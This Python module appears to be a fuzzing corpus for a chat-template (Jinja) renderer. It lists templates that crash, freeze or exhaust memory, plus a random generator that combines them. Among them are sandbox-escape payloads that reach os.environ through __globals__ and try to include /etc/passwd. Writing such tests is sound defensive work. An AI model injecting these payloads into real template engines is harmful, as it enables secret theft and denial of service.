"""Chat templates that mean no good: what was found to hurt, and what a seed makes of the same pieces."""

import random

_DEEP = "{% set ns = namespace(t=()) %}{% for i in range(DEPTH) %}{% set ns.t = (ns.t, ns.t) %}{% endfor %}"
_CHAIN = "{% set ns = namespace(t=()) %}{% for i in range(DEPTH) %}{% set ns.t = (ns.t,) %}{% endfor %}"
_LIST = "{% set ns = namespace(t=[]) %}{% for i in range(DEPTH) %}{% set ns.t = [ns.t, ns.t] %}{% endfor %}"
_DOUBLE = (
    "{% set ns = namespace(t='ab') %}{% for i in range(DEPTH) %}{% set ns.t = ns.t ~ ns.t %}{% endfor %}"
)
_BIG = "(['x' * 10000000] * 300)"

MAKERS = (_DEEP, _CHAIN, _LIST, _DOUBLE)
USES = (
    "{{ {ns.t: 1} }}", "{{ [ns.t, ns.t] | unique | list | length }}", "{{ ns.t == ns.t }}",
    "{{ ns.t in [ns.t] }}",
    "{{ ns.t | string | length }}", "{{ ns.t | tojson | length }}", "{{ ns.t }}", "{{ ns.t | join }}",
    "{{ '%s' % (ns.t,) }}", "{{ '{}'.format(ns.t) }}", "{{ [ns.t] | map('string') | list }}",
    "{{ ns.t < ns.t }}",
    "{{ [ns.t, ns.t] | sort }}", "{{ [ns.t, 1] | max }}", "{{ ns.t | length }}", "{{ ns.t | first }}",
    "{{ [ns.t] | groupby(0) }}", "{{ ns.t | sum(start=[]) }}", "{{ ns.t * 1000 }}",
    "{{ ns.t + ns.t + ns.t }}",
    "{{ dict([(ns.t, 1)]) }}", "{{ namespace(a=ns.t) }}", "{{ ns.t | replace('a', ns.t | string) }}",
    "{{ ns.t | batch(2) | list }}", "{{ ns.t | wordcount }}", "{{ ns.t | indent(1000000) }}",
    "{{ ns.t | title }}",
    "{{ raise_exception(ns.t) }}", "{{ strftime_now(ns.t) }}", "{% for x in ns.t %}{{ x }}{% endfor %}",
)  # fmt: skip

CORPUS: tuple[str, ...] = (
    # What was found: a crash, a frozen interpreter, gigabytes.
    _CHAIN.replace("DEPTH", "100000") + "{{ {ns.t: 1} }}",
    _DEEP.replace("DEPTH", "60") + "{{ {ns.t: 1} }}",
    _DEEP.replace("DEPTH", "60") + "{{ [ns.t, ns.t] | unique | list }}",
    _LIST.replace("DEPTH", "60") + "{{ ns.t == [ns.t] }}",
    _LIST.replace("DEPTH",
    "60") + "{% set u = namespace(t=[]) %}{% for i in range(60) %}{% set u.t = [u.t, u.t] %}"
    "{% endfor %}{{ ns.t == u.t }}",
    "{{ " + _BIG + " | join }}", "{{ " + _BIG + " | string }}", "{{ " + _BIG + " | tojson }}",
    "{{ [1, 2] | tojson(separators=('x' * 100000000, 'y' * 100000000)) }}",
    "{{ [[1]] | tojson(indent=500000000) }}", "{{ ('%999d' * 100000) % ((1,) * 100000) }}",
    "{{ '%999999999d' % 1 }}", "{{ '%*d' % (999999999, 1) }}", "{{ '{:999999999}'.format(1) }}",
    "{{ [[1]] * 10000000 | sum(start=[]) }}", "{{ ([[1] * 1000] * 100000) | sum(start=[]) | length }}",
    "{{ (1,) * 10**8 }}", "{{ ((1,) * 10**8) | length }}", "{{ (1).to_bytes(2000000000, 'big') | length }}",
    "{{ ('x' * 1000).encode().center(2000000000) | length }}", "{{ 'x'.encode().ljust(2000000000) }}",
    "{{ strftime_now('%Y' * 100000000) }}", "{{ strftime_now('%9999999999Y') }}",
    "{{ 'x' * 2000000000 }}", "{{ 10 ** 10 ** 8 }}", "{{ 2 ** 100000000 % 7 }}", "{{ [0] * 10**9 }}",
    "{% set a = 'x' * 100000000 %}{% set b = a ~ a ~ a ~ a ~ a ~ a %}{{ b | length }}",
    "{{ x }}" * 140_000, "{{ 1 + " * 3000 + "1" + " }}" , "{% if 1 %}" * 5000 + "{% endif %}" * 5000,
    "{{ " + "(" * 20_000 + "1" + ")" * 20_000 + " }}", "{{ " + "[" * 5000 + "]" * 5000 + " }}",
    "{{ raise_exception('bad' ~ '%c' % 0) }}", "{{ raise_exception('x' * 10000000) }}",
    "{{ raise_exception('\\ud800') }}", "{{ raise_exception() }}", "{{ raise_exception(messages) }}",
    "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
    "{% for a in range(10**12) %}x{% endfor %}", "{{ range(10**12) | list }}", "{{ range(10**12) | sum }}",
    "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
    "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}",
    "{% for a in [[[[[]]]]] recursive %}{{ loop([a, a]) }}{% endfor %}",
    _DOUBLE.replace("DEPTH", "40") + "{{ ns.t | length }}",
    "{% set ns = namespace(t=[1]) %}{% for i in range(40) %}{% set ns.t = ns.t + ns.t %}{% endfor %}"
    "{{ ns.t }}",
    # The ways out of a sandbox.
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ messages.__class__ }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.environ }}", "{{ range.__self__ }}",
    "{{ (messages | attr('__class__')) }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}", "{{ raise_exception.__globals__ }}",
    "{{ strftime_now.__globals__['os'].environ }}", "{{ lipsum.__globals__ }}",
    "{{ joiner.__init__.__globals__ }}",
    "{% set x = messages.append(1) %}", "{{ messages.clear() }}", "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}", "{% extends 'x' %}", "{{ messages | map(attribute='__class__') | list }}",
    "{% set ns = namespace() %}{% set ns.__class__ = 1 %}", "{{ loop }}", "{{ caller() }}", "{{ none.x }}",
    # Simply wrong.
    "{{ 1 / 0 }}", "{{ messages[99].content }}", "{% for %}", "{{ 'a' + 1 }}", "{{ undefined_name.x.y }}",
    "{{ 'x'.encode('utf-7').decode('idna') }}", "{{ '\\ud800' }}", "{{ '\\0' }}",
    "{{ messages | tojson(ensure_ascii=5, sort_keys=[], indent='a') }}", "{% generation %}",
    "{{ namespace(1) }}",
    "{{ 'a'.translate({97: 'b' * 1000000000}) }}", "{{ 'a\\tb'.expandtabs(2000000000) }}",
    "{{ 'aaaa'.replace('', 'x' * 1000000000) }}", "{{ ('a' * 100000).split('') }}",
    "{{ 'a'.zfill(2000000000) }}",
    "{{ ('a ' * 10000000).split() | length }}", "{{ 'ab' | replace('a', 'b' * 100000000) | length }}",
    "{{ ('(a+)+$' * 10) | wordcount }}", "{{ '1' * 100000 | int }}", "{{ ('9' * 1000000) | int }}",
    "{{ 1e308 * 10 }}", "{{ (1e308 * 10) | int }}", "{{ ('1' * 4000) | int ** 1000 }}",
    "{{ 7 << 9999999999 }}",
)  # fmt: skip


def generated(draw: random.Random) -> str:
    """Something large or deep, and something that looks at it."""
    depth = str(draw.choice((5, 20, 30, 60, 200, 1000, 50_000)))
    uses = draw.choices(USES, k=draw.choice((1, 1, 2, 3)))
    pieces = [draw.choice(MAKERS).replace("DEPTH", depth), *uses]
    if draw.random() < 0.2:
        times = draw.choice((10, 1000, 100_000))
        pieces = [f"{{% for z in range({times}) %}}", *pieces, "{% endfor %}"]
    if draw.random() < 0.1:
        pieces = ["{% macro m(n) %}", *pieces, "{{ m(n + 1) if n < 500 }}{% endmacro %}{{ m(0) }}"]
    return "".join(pieces)
